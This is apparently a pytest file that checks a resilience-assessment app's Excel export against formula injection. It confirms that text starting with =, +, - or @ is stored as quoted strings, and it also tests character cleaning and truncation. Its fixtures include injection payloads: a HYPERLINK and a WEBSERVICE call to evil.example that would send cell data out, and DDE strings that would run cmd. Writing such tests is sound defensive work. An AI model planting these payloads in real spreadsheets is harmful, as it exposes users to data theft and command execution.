"""A text the user typed that starts like a formula stays a text in the workbook: Excel never runs it.

openpyxl writes a string starting with "=" as a formula (<f>); the workbook writes every such text as an
inline string with Excel's quote prefix, so neither opening the file nor editing the cell runs it.
"""

from __future__ import annotations

import datetime as dt
import re
from html import escape
from pathlib import Path

import pytest
from openpyxl import Workbook as ExcelWorkbook
from openpyxl import load_workbook

from resilience_app.core.assessment.records import AnswerDraft, AssessmentDetails, EvidenceDraft
from resilience_app.core.register.records import ActionDraft, DiscoveryAreaDraft, RegisterItemDraft
from resilience_app.core.services import ResilienceService
from resilience_app.core.spreadsheet.xlsx import MAX_CELL_UNITS, put, safe_text
from resilience_app.core.workshop.records import WorkshopDraft
from tests.spreadsheet.workbook_reader import sheet_xml

HOSTILE = {
    "justification": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "answered_by": "@SUM(1+1)*cmd|' /C calc'!A0",
    "evidence": "+1+cmd|' /C notepad'!A0",
    "reference": "-2+3",
    "item": "=1+1",
    "action": "=WEBSERVICE(\"http://evil.example\")",
    "area": "@area",
    "workshop": "-workshop",
    "city": "=city",
}


@pytest.fixture
def hostile_workbook(service: ResilienceService, tmp_path: Path) -> Path:
    record = service.assessments.create_assessment(AssessmentDetails(city_name_en=HOSTILE["city"], notes="=notes"))
    question = next(service.framework().questions())
    service.assessments.save_answer(record.id, question.id, AnswerDraft(
        status="level", level=2, justification=HOSTILE["justification"], answered_by=HOSTILE["answered_by"]))
    service.assessments.add_evidence(record.id, question.id, EvidenceDraft(title=HOSTILE["evidence"], reference=HOSTILE["reference"]))
    item = service.register.add_item(record.id, RegisterItemDraft(name_en=HOSTILE["item"], likelihood=2, impact=3))
    service.register.add_action(record.id, ActionDraft(title=HOSTILE["action"], item_ids=(item.id,)))
    service.register.add_area(record.id, DiscoveryAreaDraft(title=HOSTILE["area"]))
    service.workshops.add_workshop(record.id, WorkshopDraft(title=HOSTILE["workshop"], held_on=dt.date(2026, 11, 24)))
    return service.export_xlsx(record.id, language="en", path=tmp_path / "hostile.xlsx").path


def test_no_cell_is_a_formula_and_every_text_is_intact_in_the_raw_xml(hostile_workbook: Path) -> None:
    parts = sheet_xml(hostile_workbook)
    assert parts
    for name, xml in parts.items():
        assert "<f>" not in xml and "<f " not in xml, name
    everything = "".join(parts.values())
    for text in HOSTILE.values():
        assert f"<t>{escape(text, quote=False)}</t>" in everything or f'<t xml:space="preserve">{escape(text, quote=False)}</t>' in everything, text


def test_such_texts_read_back_as_texts_with_the_quote_prefix(hostile_workbook: Path) -> None:
    book = load_workbook(hostile_workbook)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE.values():
                    found[cell.value] = cell
    assert set(found) == set(HOSTILE.values())
    for text, cell in found.items():
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text  # editing the cell in Excel keeps it a text


def test_a_plain_text_gets_no_quote_prefix(tmp_path: Path) -> None:
    book = ExcelWorkbook()
    sheet = book.active
    assert sheet is not None
    put(sheet["A1"], "Water = life")
    put(sheet["A2"], "=1+1")
    put(sheet["A3"], 42)
    assert (sheet["A1"].data_type, sheet["A1"].quotePrefix) == ("s", False)
    assert (sheet["A2"].data_type, sheet["A2"].quotePrefix, sheet["A2"].value) == ("s", True, "=1+1")
    assert sheet["A3"].data_type == "n"


def test_texts_xml_cannot_hold_are_cleaned_and_a_text_longer_than_a_cell_is_cut_saying_so() -> None:
    assert safe_text("a\x00b\x07c\x1fd") == "abcd"
    emoji = "🌍" * 20_000  # 20,000 characters as typed, 40,000 UTF-16 units: more than a cell keeps
    cut = safe_text(emoji)
    assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL_UNITS
    assert cut.startswith("🌍" * 100) and cut.endswith("(shortened: the full text is in the app)")
    assert not re.search("[\ud800-\udfff]", cut)  # no emoji cut in half
    kept = "x" * MAX_CELL_UNITS
    assert safe_text(kept) == kept
